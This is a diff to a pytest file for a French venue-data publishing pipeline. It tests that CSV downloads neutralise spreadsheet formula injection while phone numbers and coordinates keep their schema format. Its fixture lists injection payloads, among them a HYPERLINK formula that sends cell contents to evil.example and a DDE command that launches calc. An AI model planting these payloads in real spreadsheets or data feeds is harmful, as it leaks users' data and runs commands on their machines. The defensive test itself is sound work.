@@ -12,7 +12,8 @@ from pathlib import Path
 import pytest
 
 from site_fixture import build_demo_site
-from transforms.exports import neutralise
+from pipeline.venue_contract import VENUES
+from transforms.exports import FORMULA_STARTS, NUMBER, literal_patterns, neutralise
 
 
 @pytest.fixture(scope="module")
@@ -64,10 +65,68 @@ def test_venue_export_follows_the_national_schema_and_is_formula_safe(site):
     assert list(rows[0])[-2:] == ["fiche_acces_libre", "prise_rdv"]
     exported = json.loads(read(site, "donnees/lieux.json"))
     assert exported["version"] == "1.0.2" and len(exported["lieux"]) == 17
-    assert neutralise("=HYPERLINK(\"x\")") == "'=HYPERLINK(\"x\")"
-    assert neutralise("+33169310000") == "'+33169310000" and neutralise(12.5) == 12.5
+    assert neutralise("=HYPERLINK(\"x\")") == "'=HYPERLINK(\"x\")" and neutralise(12.5) == 12.5
+    assert_follows_the_venue_contract(rows)
+    phones = {row["id"]: row["telephone"] for row in rows}
+    assert phones["lieu-hostile"] == "+33169310000"  # as the national schema writes it
     for row in rows:
-        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())
+        assert not any(v.startswith(FORMULA_STARTS) for name, v in row.items()
+                       if name not in literal_patterns(VENUES))
+
+
+def assert_follows_the_venue_contract(rows: list[dict]) -> None:
+    """Every filled cell of a typed column matches the contract's pattern for it."""
+    patterns = literal_patterns(VENUES)
+    assert set(patterns) >= {"telephone", "code_postal", "pivot", "date_maj", "latitude"}
+    checked = 0
+    for row in rows:
+        for name, pattern in patterns.items():
+            if row[name]:
+                assert pattern.fullmatch(row[name]), (row["id"], name, row[name])
+                checked += 1
+    assert checked >= len(rows) * 3
+
+
+MALICIOUS = {"nom": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
+             "adresse": "+cmd|' /C calc'!A0", "complement_adresse": "-2+3",
+             "presentation_resume": "@SUM(1)", "structure_parente": "=1+1"}
+
+
+def test_formula_cells_are_neutralised_in_every_csv_download(data_dir):
+    from conftest import REFERENCE_RUN
+    from pipeline.ingest import process_file
+    from pipeline.publish import publish
+
+    venue = {"id": "lieu-formules", "pivot": "21910477700019", "commune": "Palaiseau",
+             "code_postal": "91120", "code_insee": "91477", "latitude": "48.71",
+             "longitude": "-2.24", "telephone": "+33180050000", "date_maj": "2026-01-15",
+             "services": "Aide aux démarches administratives",
+             "modalites_acces": "Se présenter", "itinerance": "Fixe", **MALICIOUS}
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, fieldnames=list(venue), lineterminator="\n")
+    writer.writeheader()
+    writer.writerow(venue)
+    path = data_dir / "inbox" / "agglo-lieux" / "lieux_formules.csv"
+    path.parent.mkdir(parents=True)
+    path.write_text(buffer.getvalue(), encoding="utf-8")
+    assert process_file("agglo-lieux", str(path)).status != "rejete"
+    build = Path(publish(REFERENCE_RUN).path)
+
+    (row,) = csv.DictReader(io.StringIO(read(build, "donnees/lieux.csv")))
+    assert_follows_the_venue_contract([row])
+    assert row["telephone"] == "+33180050000" and row["longitude"] == "-2.24"
+    for name, value in MALICIOUS.items():
+        assert row[name] == "'" + value, name
+    downloads = sorted(build.rglob("*.csv"))
+    assert len(downloads) > 5
+    for download in downloads:
+        literals = literal_patterns(VENUES) if download.name == "lieux.csv" else {}
+        header, *records = csv.reader(io.StringIO(download.read_text(encoding="utf-8")))
+        for record in records:
+            for name, cell in zip(header + [""] * len(record), record):
+                if cell.startswith(FORMULA_STARTS) and not re.fullmatch(NUMBER, cell):
+                    assert name in literals and literals[name].fullmatch(cell), (
+                        download.name, name, cell)
 
 
 def test_phone_page_lists_collection_points_by_commune(site):
